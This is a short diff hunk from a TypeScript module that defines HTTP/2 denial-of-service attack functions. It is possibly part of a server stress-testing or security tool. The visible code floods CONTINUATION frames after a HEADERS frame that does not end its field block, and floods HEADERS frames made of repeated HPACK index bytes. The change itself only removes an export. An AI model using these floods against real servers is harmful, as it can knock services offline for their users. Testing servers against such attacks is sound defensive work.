@@ -33,7 +33,7 @@ export const endlessFieldBlock: Attack = (socket, stream) => {
   socket.write(encodeFrame(headers(stream, filler, { endHeaders: false })));
   flood(socket, encodeFrame(continuation(stream, filler)));
 };
-export const indexesWithoutEnd: Attack = (socket, stream) =>
+const indexesWithoutEnd: Attack = (socket, stream) =>
   flood(socket, manyTimes(headers(stream, new Uint8Array(16_384).fill(0x82))));
 
 const attacks: Readonly<Record<string, readonly [string, Attack]>> = {
